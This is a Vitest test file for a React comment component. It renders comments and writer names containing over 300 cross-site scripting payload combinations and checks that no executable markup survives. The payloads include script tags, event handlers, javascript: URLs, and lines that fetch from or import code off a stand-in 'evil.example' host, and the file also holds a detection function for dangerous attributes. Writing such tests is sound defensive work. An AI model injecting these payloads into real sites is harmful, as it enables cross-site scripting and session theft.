// @vitest-environment jsdom
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { CommentEntry } from "#components/post/comments/comment-entry.tsx";
import type { Comment, Discussion } from "#lib/posts/comments/comment.ts";

const DISCUSSION: Discussion = {
  postId: "0f8b2f52-6f34-4c3c-9d0a-2b1f6d6a7c11",
  title: "On doors",
  slug: "on-doors",
  author: { handle: "ada", name: "Ada" },
  mode: "everyone",
  isLocked: false,
  isAuthor: true,
  isByToken: false,
  isGated: false,
  comments: 1,
  refusal: null,
};
const COMMENT: Comment = {
  id: "6b0e5f4c-32c2-4c53-8a52-3a3f6f1f9d20",
  parentId: null,
  body: "",
  status: "published",
  writer: null,
  isAuthor: false,
  isBuyer: false,
  isMine: true,
  isLiked: false,
  isPinned: false,
  likes: 0,
  replies: 0,
  editedAt: null,
  createdAt: "2026-11-27T10:00:00Z",
  mentions: [{ typed: "ada", handle: "ada" }],
};

const ACTS = ["alert(1)", "fetch('//evil.example')", "import('https://evil.example/x.js')"];
/** Each is tried with each act. */
const ATTACKS = ACTS.flatMap((act) => [
  `<script>${act}</script>`,
  `</textarea><script>${act}</script>`,
  `</p></article><img src=x onerror="${act}">`,
  `<svg onload=${act}>`,
  `<svg><animate onbegin=${act} attributeName=x></svg>`,
  `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  `<a href="javascript:${act}">x</a>`,
  `<math><mtext><style><img src=x onerror=${act}></style></mtext></math>`,
  `"><details open ontoggle=${act}>`,
  `' autofocus onfocus='${act}`,
  `javascript:${act}`,
  `&#106;avascript:${act}`,
  `https://example.org/"onmouseover="${act}`,
  `https://example.org/'><script>${act}</script>`,
  `{{constructor.constructor("${act}")()}}`,
  `\u0000<script>${act}</script>`,
]);
/** Where an attack can stand in a comment. */
const PLACES: ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `**${attack}**`,
  (attack) => `_${attack}_`,
  (attack) => `\`${attack}\``,
  (attack) => `[${attack}](https://example.org/)`,
  (attack) => `[x](${attack})`,
  (attack) => `[x](https://example.org/${attack})`,
  (attack) => `@ada ${attack}`,
  (attack) => `@ada"${attack}`,
  (attack) => `@${attack}`,
];

function draw(changes: Partial<Comment>): Document {
  const around = {
    discussion: DISCUSSION,
    canLike: true,
    isThread: true,
    now: Date.parse(COMMENT.createdAt),
    answer: { kind: "begin" },
  } as const;
  const html = renderToStaticMarkup(createElement(CommentEntry, { comment: { ...COMMENT, ...changes }, ...around }));
  return read(`<!doctype html><form>${html}</form>`);
}

function read(html: string): Document {
  return new DOMParser().parseFromString(html, "text/html");
}

/** Elements by name, and attributes that a browser would act on. */
function dangersIn(page: Document): string[] {
  return [...page.body.querySelectorAll("*")].flatMap((element) => {
    const acts = element.getAttributeNames().filter((name) => /^on|^srcdoc$|^autofocus$/.test(name));
    const href = element.getAttribute("href");
    const isBad = href !== null && !/^(?:https:\/\/|\/(?!\/))/.test(href);
    const isForeign = /^(?:script|img|iframe|math|style|object|embed|animate)$/i.test(element.tagName);
    return [...acts, ...(isBad ? [href] : []), ...(isForeign ? [element.tagName] : [])];
  });
}

describe("a comment", () => {
  test("runs nothing, whatever is written where", () => {
    const bodies = ATTACKS.flatMap((attack) => PLACES.map((place) => place(attack)));
    expect(bodies.length).toBeGreaterThan(300);
    const harmless = draw({ body: "Plain." }).body.querySelectorAll("form > *").length;
    for (const body of bodies) {
      const page = draw({ body });
      expect([body, dangersIn(page)]).toEqual([body, []]);
      expect(page.body.querySelectorAll("form > *").length).toBe(harmless);
    }
  });

  test("runs nothing that its writer is called", () => {
    for (const name of ATTACKS)
      expect([name, dangersIn(draw({ writer: { handle: "bo", name, avatarUrl: null } }))]).toEqual([name, []]);
  });

  test("is tried by a judge that sees what would run", () => {
    const page = read('<img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a>');
    expect(dangersIn(page)).toEqual(["onerror", "IMG", "javascript:alert(1)"]);
  });
});
